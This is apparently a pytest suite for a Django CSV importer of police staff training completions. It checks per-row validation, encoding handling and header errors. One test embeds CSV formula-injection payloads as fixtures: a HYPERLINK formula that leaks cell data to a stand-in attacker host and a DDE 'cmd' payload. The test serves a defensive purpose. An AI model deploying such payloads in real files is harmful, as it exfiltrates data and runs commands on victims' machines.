"""Importing completions from the learning system's CSV: every row reported by number, bad
rows named by row and column, good rows kept; hostile files (a byte-order mark, UTF-16,
Latin-1, NUL bytes, formula cells, huge cells, a wrong header) answered clearly."""

import datetime as dt

import pytest
from django.core.management import CommandError, call_command

from haven.learning import services
from haven.learning.models import Completion

pytestmark = pytest.mark.django_db
HEADER = "username,module_code,completed_on,provider\r\n"


def run(staff, data: bytes):
    trainer = staff["trainer"]
    return services.do_import_completions(trainer.force, data, "export.csv", actor=trainer)


def outcomes(batch):
    return {line["row"]: (line["outcome"], line["message"]) for line in batch.report}


def test_good_rows_are_stored_and_every_bad_row_named_by_row_and_column(staff):
    data = (HEADER
            + "call_handler.warks,stalking,2026-01-15,College of Policing\r\n"
            + "nobody.warks,dash,2026-01-15,\r\n"
            + "call_handler.warks,juggling,2026-01-15,\r\n"
            + "call_handler.warks,dash,15/13/2026,\r\n"
            + "response_officer.warks,dash,20/02/2026,\r\n"
            + "call_handler.wmerc,dash,2026-01-15,\r\n"
            + ",dash,2026-01-15,\r\n"
            + "call_handler.warks,dash,2999-01-01,\r\n"
            + "call_handler.warks,dash,2026-01-15,x,extra\r\n").encode()
    batch = run(staff, data)
    got = outcomes(batch)
    assert (batch.rows, batch.stored, batch.rejected) == (9, 2, 7)
    assert got[2][0] == "stored" and got[6][0] == "stored"
    assert got[3][1].startswith("row 3, column username: no member of this force's staff")
    assert got[4][1].startswith("row 4, column module_code: 'juggling' is not a module code")
    assert got[5][1].startswith("row 5, column completed_on: '15/13/2026' is not a date")
    assert got[7][1].startswith("row 7, column username")  # the other force's handler
    assert got[8][1] == "row 8, column username: blank"
    assert "in the future" in got[9][1]
    assert "cells but the header has 4 columns" in got[10][1]
    stored = Completion.objects.filter(batch=batch).order_by("completed_on")
    assert [(c.user.username, c.module.code, c.completed_on) for c in stored] == [
        ("call_handler.warks", "stalking", dt.date(2026, 1, 15)),
        ("response_officer.warks", "dash", dt.date(2026, 2, 20))]


def test_a_second_import_of_the_same_file_adds_nothing_and_says_so(staff):
    data = (HEADER + "call_handler.warks,dash,2026-01-15,\r\n").encode()
    run(staff, data)
    again = run(staff, data)
    assert (again.stored, again.duplicates) == (0, 1)
    assert Completion.objects.count() == 1


def test_a_byte_order_mark_and_staff_numbers_are_read(staff):
    staff["handler"].collar_number = "CH123"
    staff["handler"].save()
    data = b"\xef\xbb\xbfStaff_Number,Module_Code,Completed_On\r\nch123,DASH,2026-03-01\r\n"
    batch = run(staff, data)
    assert batch.stored == 1, batch.report


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_a_utf16_file_is_refused_whole_in_words(staff, encoding):
    batch = run(staff, (HEADER + "call_handler.warks,dash,2026-01-15,\r\n").encode(encoding))
    assert "UTF-8" in batch.problem
    assert not Completion.objects.exists()


def test_a_latin1_row_is_named_and_the_good_rows_kept(staff):
    data = (HEADER + "call_handler.warks,dash,2026-01-15,Ren\xe9e Training\r\n"
            + "response_officer.warks,dash,2026-01-15,\r\n").encode("latin-1")
    batch = run(staff, data)
    got = outcomes(batch)
    assert got[2] == ("rejected", got[2][1]) and "not UTF-8" in got[2][1]
    assert got[3][0] == "stored"


def test_nul_bytes_and_huge_cells_are_rejected_by_row(staff):
    data = (HEADER.encode() + b"call_handler.warks,dash,2026-01-15,Nul\x00\r\n"
            + b"call_handler.warks,dash,2026-01-16," + b"y" * 5000 + b"\r\n"
            + b"call_handler.warks,dash,2026-01-17,\r\n")
    got = outcomes(run(staff, data))
    assert "NUL" in got[2][1] and "longer than" in got[3][1] and got[4][0] == "stored"


def test_a_formula_cell_is_kept_as_text_never_run(staff):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    data = (HEADER + 'call_handler.warks,dash,2026-01-15,"'
            + hostile.replace('"', '""') + '"\r\n' + "=cmd|' /C calc'!A0,dash,2026-01-15,\r\n")
    batch = run(staff, data.encode())
    assert Completion.objects.get().provider == hostile
    assert outcomes(batch)[3][0] == "rejected"


@pytest.mark.parametrize("header, words", [
    ("name,module,date\r\n", "no module_code or completed_on column"),
    ("person,module_code,completed_on\r\n", "neither a staff_number nor a username"),
    ("", "empty"),
])
def test_a_wrong_header_refuses_the_file_and_says_which_column(staff, header, words):
    batch = run(staff, (header + "a,b,c\r\n").encode() if header else b"")
    assert words in batch.problem
    assert not Completion.objects.exists()


def test_the_command_imports_and_reports_each_rejected_row(staff, tmp_path, capsys):
    path = tmp_path / "lms.csv"
    path.write_bytes((HEADER + "call_handler.warks,dash,2026-01-15,\r\n"
                      + "call_handler.warks,nonsense,2026-01-15,\r\n").encode())
    call_command("learning", "import", str(path), "--force", "WARKS")
    out = capsys.readouterr().out
    assert "row 3: rejected: row 3, column module_code" in out
    assert "2 rows, 1 stored, 0 already recorded, 1 rejected" in out
    path.write_bytes("x".encode("utf-16"))
    with pytest.raises(CommandError, match="nothing stored"):
        call_command("learning", "import", str(path), "--force", "WARKS")
